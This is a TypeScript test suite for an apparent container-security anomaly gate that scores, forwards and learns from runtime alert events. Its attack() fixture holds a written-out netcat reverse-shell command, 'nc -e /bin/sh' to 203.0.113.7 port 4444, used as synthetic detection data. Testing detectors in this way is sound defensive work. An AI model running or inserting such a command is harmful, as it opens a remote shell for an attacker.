import { test } from 'node:test';
import assert from 'node:assert/strict';
import { mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { Registry } from 'prom-client';
import { isFalconerError } from '../../src/errors.ts';
import { FEATURE_COUNT, FEATURE_SCHEMA } from '../../src/gate/featurizer.ts';
import { Gate, type GateDecision } from '../../src/gate/gate.ts';
import { createGateMetrics } from '../../src/gate/metrics.ts';
import { parseModel, serializeModel, type GateModel } from '../../src/gate/model-file.ts';
import { quantileThreshold } from '../../src/gate/threshold.ts';
import { T0, makeEvent, stationaryStream } from '../support/gate-events.ts';

const SMALL = { trees: 50, sampleSize: 128 };

function attack(i: number, timeMs: number) {
  return makeEvent({
    id: `attack-${i}`,
    rule: 'Netcat Remote Code Execution in Container',
    priority: 'Warning',
    proc: 'nc',
    pname: 'bash',
    cmdline: 'nc -e /bin/sh 203.0.113.7 4444',
    pod: 'api-7c8d9f5b6-cdfgh',
    image: 'shop/api',
    fields: { 'fd.rip': '203.0.113.7', 'fd.rport': 4444, 'fd.name': '10.0.2.4:51234->203.0.113.7:4444' },
    timeMs,
  });
}

test('warm-up: no model, nothing forwarded but Critical+ by the documented rule, then the first model serves', () => {
  const gate = new Gate({ warmupEvents: 2000, forest: SMALL });
  const decisions: GateDecision[] = [];
  let i = 0;
  for (const ev of stationaryStream(1, 1999)) {
    decisions.push(
      gate.process(i++ === 500 ? { ...ev, priority: 'Critical', priorityLevel: 2, id: 'crit' } : ev),
    );
  }
  assert.equal(gate.model, undefined);
  assert.ok(decisions.every((d) => d.modelVersion === null && d.score === 0));
  const forwarded = decisions.filter((d) => d.forwarded);
  assert.deepEqual(
    forwarded.map((d) => [d.eventId, d.reason]),
    [['crit', 'warmup-priority']],
  );
  assert.equal(forwarded[0]!.signalUpdate, 'opened');
  gate.process(makeEvent({ timeMs: T0 + 60_000 }));
  const model = gate.model as GateModel | undefined;
  assert.ok(model !== undefined, 'trained after warmupEvents');
  assert.equal(model.modelVersion, 'gate-1-1');
  assert.deepEqual(model.features, FEATURE_SCHEMA);
  const next = gate.process(makeEvent({ timeMs: T0 + 60_001 }));
  assert.equal(next.modelVersion, 'gate-1-1');
  assert.ok(next.score > 0 && next.score < 1);

  const silent = new Gate({ warmupEvents: 100, warmupForwardMaxPriorityLevel: null, forest: SMALL });
  const d = silent.process(makeEvent({ priority: 'Emergency' }));
  assert.equal(d.forwarded, false);
  assert.equal(d.reason, 'warmup');
});

test('the threshold holds the target forward rate on a stationary stream', () => {
  const gate = new Gate({ warmupEvents: 5000, retrainEveryEvents: 10_000, forwardRate: 0.01, forest: SMALL });
  let scored = 0;
  let forwarded = 0;
  for (const ev of stationaryStream(7, 45_000)) {
    const d = gate.process(ev);
    if (d.modelVersion !== null) {
      scored++;
      if (d.forwarded) forwarded++;
    }
  }
  const rate = forwarded / scored;
  assert.ok(scored === 40_000, `scored ${scored}`);
  assert.ok(rate > 0.004 && rate < 0.02, `forward rate ${rate} for a target of 0.01`);
  assert.ok(gate.stats.trainings >= 4);
});

test('quantile calibration: about the target fraction at or above, ties never push it over', () => {
  const scores = Float64Array.from({ length: 1000 }, (_, i) => i / 1000);
  const t = quantileThreshold(scores, 0.01);
  assert.equal(scores.filter((s) => s >= t).length, 10);
  const tied = new Float64Array(1000).fill(0.4);
  tied.fill(0.7, 0, 30); // 3 % tie at the top
  const tt = quantileThreshold(tied, 0.01);
  assert.equal(tied.filter((s) => s >= tt).length, 0, 'a 3 % tie at a 1 % target forwards none of it');
  assert.throws(() => quantileThreshold(scores, 0), /forward rate/);
});

test('a new model is swapped in atomically while scoring continues; every decision is explained by one whole model', () => {
  const gate = new Gate({
    warmupEvents: 1000,
    retrainEveryEvents: 1500,
    recalibrateEveryEvents: 0,
    forest: SMALL,
    calibrationWindow: 2000,
  });
  const models = new Map<string, { model: GateModel; threshold: number }>();
  const check: { version: string; score: number; vector: Float64Array; forwarded: boolean }[] = [];
  let lastSeq = 0;
  for (const ev of stationaryStream(3, 8000)) {
    // The vector the gate will score is the featurizer's view before the event: peek without learning.
    const vector = gate.featurizer.featurize(ev, new Float64Array(FEATURE_COUNT), false);
    const d = gate.process(ev);
    const m = gate.model;
    if (m !== undefined && !models.has(m.modelVersion))
      models.set(m.modelVersion, { model: m, threshold: gate.threshold! });
    if (d.modelVersion !== null) {
      check.push({ version: d.modelVersion, score: d.score, vector, forwarded: d.forwarded });
      const seq = Number(d.modelVersion.split('-').at(-1));
      assert.ok(seq >= lastSeq, 'versions only move forward');
      lastSeq = seq;
    }
  }
  assert.ok(models.size >= 4, `models ${models.size}`);
  for (const c of check) {
    const entry = models.get(c.version)!;
    assert.equal(
      entry.model.forest.score(c.vector),
      c.score,
      'the score is exactly that of the versioned model',
    );
    assert.equal(c.forwarded, c.score >= entry.threshold);
  }
  // A model captured before a swap is untouched by it.
  const before = gate.model!;
  const probe = check.at(-1)!.vector;
  const scoreBefore = before.forest.score(probe);
  const result = gate.retrain();
  assert.notEqual(gate.model!.modelVersion, before.modelVersion);
  assert.equal(result.modelVersion, gate.model!.modelVersion);
  assert.equal(before.forest.score(probe), scoreBefore);
});

test('a model that fails validation is refused with a clear error and the current model keeps serving', async () => {
  const gate = new Gate({ warmupEvents: 1000, forest: SMALL });
  for (const ev of stationaryStream(4, 1200)) gate.process(ev);
  const serving = gate.model!;
  const good = serializeModel(serving);

  const otherSchema = parseModel(good);
  assert.throws(
    () =>
      gate.loadModel({
        ...otherSchema,
        features: { schemaVersion: 'falconer.features/0', names: otherSchema.features.names },
      }),
    (err) => isFalconerError(err, 'MODEL_SCHEMA_MISMATCH'),
  );
  assert.equal(gate.model, serving);

  const dir = await mkdtemp(join(tmpdir(), 'falconer-gate-'));
  try {
    const corrupt = join(dir, 'corrupt.json');
    await writeFile(corrupt, good.replace('"trees":50', '"trees":"fifty"'));
    await assert.rejects(
      gate.loadModelFile(corrupt),
      (err) => isFalconerError(err, 'MODEL_INVALID') && /params\.trees/.test(err.message),
    );
    const renamed = join(dir, 'renamed.json');
    await writeFile(renamed, good.replace('"owner_dest_novelty"', '"something_else"'));
    await assert.rejects(gate.loadModelFile(renamed), (err) => isFalconerError(err, 'MODEL_SCHEMA_MISMATCH'));
    await assert.rejects(gate.loadModelFile(join(dir, 'missing.json')), (err) =>
      isFalconerError(err, 'IO_ERROR'),
    );
    assert.equal(gate.model, serving, 'still the same model object');
    const d = gate.process(makeEvent({ timeMs: T0 + 100_000 }));
    assert.equal(d.modelVersion, serving.modelVersion);

    // A valid file round-trips into another gate.
    const saved = join(dir, 'model.json');
    await gate.saveModelFile(saved);
    const other = new Gate({ warmupEvents: 1000, featurizerWarmupEvents: 0 });
    const loaded = await other.loadModelFile(saved);
    assert.equal(loaded.modelVersion, serving.modelVersion);
    assert.equal(other.threshold, gate.threshold);
    const scoredElsewhere = other.process(makeEvent({ timeMs: T0 + 100_001 }));
    assert.equal(scoredElsewhere.modelVersion, serving.modelVersion);
  } finally {
    await rm(dir, { recursive: true, force: true });
  }
});

test('feedback: a confirmed false positive becomes normal training data; a confirmed attack stays out of training', () => {
  const opts = {
    warmupEvents: 3000,
    forwardRate: 0.02,
    autoRetrain: false,
    recalibrateEveryEvents: 0,
    trainingSampleSize: 40_000,
    windowPeriods: 4,
    forest: SMALL,
    seed: 5,
  };
  const gate = new Gate(opts);
  for (const ev of stationaryStream(5, 3000)) gate.process(ev);
  gate.retrain();
  // An odd but benign event, forwarded.
  const odd = makeEvent({
    id: 'odd',
    rule: 'Launch Privileged Container',
    proc: 'dockerd',
    pname: 'containerd',
    cmdline: 'dockerd --debug',
    pod: 'api-7c8d9f5b6-cdfgh',
    image: 'shop/api',
    timeMs: T0 + 70_000,
  });
  const first = gate.process(odd);
  assert.equal(first.forwarded, true, `score ${first.score} threshold ${gate.threshold}`);
  const vector = gate.featurizer.featurize(odd, new Float64Array(FEATURE_COUNT), false);
  const before = gate.model!.forest.score(vector);
  assert.deepEqual(gate.feedback({ eventId: 'odd', verdict: 'false_positive' }), { applied: true });
  const r = gate.retrain();
  assert.ok(r.falsePositiveRows >= 1);
  const after = gate.model!.forest.score(vector);
  assert.ok(after < before - 0.02, `false positive score should fall: ${before} -> ${after}`);

  // A confirmed attack: its row, which the reservoir holds (it has room for every event), is dropped from training.
  const a = gate.process(attack(1, T0 + 80_000));
  assert.equal(a.forwarded, true);
  assert.deepEqual(gate.feedback({ eventId: 'attack-1', verdict: 'true_positive' }), { applied: true });
  const r2 = gate.retrain();
  assert.equal(r2.attackRowsDropped, 1);
  assert.deepEqual(gate.feedback({ eventId: 'never-forwarded', verdict: 'true_positive' }), {
    applied: false,
    reason: 'unknown-event',
  });
  assert.throws(() => gate.feedback({ eventId: 'odd', verdict: 'maybe' as never }), /verdict/);
});

test('retrain() before enough data says so; a failed scheduled retrain never stops the stream', () => {
  const gate = new Gate({ warmupEvents: 10, featurizerWarmupEvents: 0 });
  gate.process(makeEvent());
  assert.throws(
    () => gate.retrain(),
    (err) => isFalconerError(err, 'GATE_NOT_READY'),
  );
  assert.throws(
    () => new Gate({ forwardRate: 2 }),
    (err) => isFalconerError(err, 'CONFIG_INVALID'),
  );
  assert.throws(
    () => new Gate({ fixedThreshold: 1.5 }),
    (err) => isFalconerError(err, 'CONFIG_INVALID'),
  );
});

test('metrics: scored, forwarded, score histogram, model version, threshold, retrain duration, signals', async () => {
  const registry = new Registry();
  const gate = new Gate({
    warmupEvents: 1000,
    forest: SMALL,
    metrics: createGateMetrics(registry),
    forwardRate: 0.02,
  });
  for (const ev of stationaryStream(6, 3000)) gate.process(ev);
  gate.process(attack(2, T0 + 200_000));
  const text = await registry.metrics();
  const value = (name: string) => Number(new RegExp(`^${name} (\\S+)$`, 'm').exec(text)?.[1]);
  assert.equal(value('falconer_events_scored_total') + value('falconer_gate_warmup_events_total'), 3001);
  assert.ok(value('falconer_events_scored_total') >= 2000);
  assert.equal(value('falconer_gate_score_count'), value('falconer_events_scored_total'));
  assert.match(text, /falconer_events_forwarded_total\{reason="anomaly"\} [1-9]/);
  assert.match(text, /falconer_gate_score_bucket\{le="\+Inf"\} \d+/);
  assert.match(text, /falconer_gate_model_info\{version="gate-1-\d+"\} 1/);
  assert.ok(value('falconer_gate_model_version') >= 1);
  assert.ok(value('falconer_gate_threshold') > 0.3 && value('falconer_gate_threshold') < 1);
  assert.match(text, /falconer_gate_retrain_duration_seconds_count [1-9]/);
  assert.ok(value('falconer_signals_total') >= 1);
});
